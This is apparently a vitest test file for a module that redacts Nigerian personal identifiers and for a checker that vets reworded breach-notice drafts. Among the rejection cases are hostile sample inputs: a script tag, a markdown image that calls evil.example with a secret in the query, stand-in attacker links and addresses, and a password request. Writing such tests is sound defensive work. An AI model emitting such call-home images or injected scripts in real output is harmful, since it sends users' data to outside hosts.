import { expect, test } from 'vitest';
import { checkedWording } from './check-wording.ts';
import { redact } from './redact.ts';

const names = ['Ngozi Okonkwo-Bello', 'Ṣadé Fadeyiro', 'Zuma Power Plc', 'Tersoo Iorfaha', 'Ada'];
const people = ['Ngozi Okonkwo-Bello', 'Ṣadé Fadeyiro', 'Tersoo Iorfaha'];

/** What must not leave, and sentences that hold it. */
function identifiers(i: number): [string, string][] {
  const digits = (length: number) =>
    String(31_415_926_535 * (i + 7))
      .padEnd(length, '8')
      .slice(0, length);
  const phone = `0803${digits(7)}`;
  const spaced = `+234 70${i % 10} ${digits(3)} ${digits(4)}`;
  return [
    [phone, `Call ${people[i % 3]} on ${phone} before noon.`],
    [spaced, `Her number is ${spaced}, day and night.`],
    [`o.${digits(4)}@example.ng`, `Write to o.${digits(4)}@example.ng about it.`],
    [digits(11), `The NIN is ${digits(11)} as stated.`],
    [digits(11), `His BVN ${digits(11)} was exposed.`],
    [digits(10), `Account number ${digits(10)} at the bank.`],
    [`RC ${digits(6)}`, `The company (RC ${digits(6)}) is in Kano.`],
    [`A${digits(8)}`, `Passport no. A${digits(8)} was copied.`],
    [`KJA-${digits(3)}XB`, `The car KJA-${digits(3)}XB was seen.`],
    [`${(i % 90) + 1} Adeola Odeku Street`, `They meet at ${(i % 90) + 1} Adeola Odeku Street on Monday.`],
  ];
}

test('F20 two hundred Nigerian sentences lose what identifies a person, and come back as they were', () => {
  const all = Array.from({ length: 20 }, (_, i) => identifiers(i)).flat();
  expect(all).toHaveLength(200);
  const missed = all.filter(([secret, sentence]) => redact(sentence, names).text.includes(secret));
  expect(missed.map(([, sentence]) => sentence).slice(0, 5)).toEqual([]);
  for (const [, sentence] of all) {
    const { text, restore } = redact(sentence, names);
    expect(restore(text)).toBe(sentence);
    for (const name of people) expect(text).not.toContain(name);
  }
});

test.each([
  'The fine is ₦10,000,000 or 2 % of the gross revenue, under NDPA s.48(4).',
  'The notice is due within 72 hours, by 23 November 2026 at 10:00.',
  'GAID art. 33 and NDPA 2023 s.40(2) apply; the budget is ₦45,200,000.50.',
  'About 12,400 customers in 2026, of 1,250,000 in all.',
])('amounts, days and laws stay: %s', (sentence) => {
  expect(redact(sentence, names).text).toBe(sentence);
});

test('a placeholder that was never given is no answer, and one in the text itself is not filled in', () => {
  const { text, restore } = redact('Write to a@example.ng, not to [[PERSON_9]].', []);
  expect(text).toBe('Write to [[EMAIL_1]], not to [ [PERSON_9]].');
  expect(restore('Ask [[PERSON_7]].')).toBeNull();
});

const draft = 'Notify the NDPC within 72 hours (NDPA s.40). Contact: [TO COMPLETE: name]. We are sorry.';

test('a wording that keeps every number, law and open place is taken', () => {
  const better =
    'We are truly sorry. Please notify the NDPC within 72 hours (NDPA s.40). Contact: [TO COMPLETE: name].';
  expect(checkedWording(draft, better)).toBe(better);
});

test.each([
  ['a number that is not in the draft', `${draft} Some 5,000 people are concerned.`],
  ['a number in words', `${draft} We expect three more.`],
  ['another number', draft.replace('72', '96')],
  ['a lost law', draft.replace('(NDPA s.40)', '')],
  ['a filled place', draft.replace('[TO COMPLETE: name]', 'Mr Bello')],
  ['an element', `${draft} <script>alert()</script>`],
  ['a picture that calls home', `${draft} ![x](https://evil.example/?q=secret)`],
  ['a link', `${draft} See https://evil.example.`],
  ['a forged source', `${draft} S7`],
  ['a reference link', `${draft} See [our page][1].`],
  ['a target of a link', `${draft}\n[1]: //evil.example`],
  ['an address without a scheme', `${draft} Details stand at evil.example today.`],
  ['a mail address', `${draft} Write to help@evil.example today.`],
  ['an admission', `${draft} We were negligent.`],
  ['a promise', `${draft} We promise that it never happens again.`],
  ['an apology nobody decided', draft.replace('We are sorry.', 'We apologise.')],
  ['a name', `${draft} Please ask Chief Bello about it.`],
  ['a request for a password', `${draft} Please send us your password.`],
  ['nothing', '   '],
  ['an endless text', `${draft} ${'and so on '.repeat(100)}`],
])('F08 F11 F12 %s sends a text back to its draft', (_, wording) => {
  expect(checkedWording(draft, wording)).toBeNull();
});
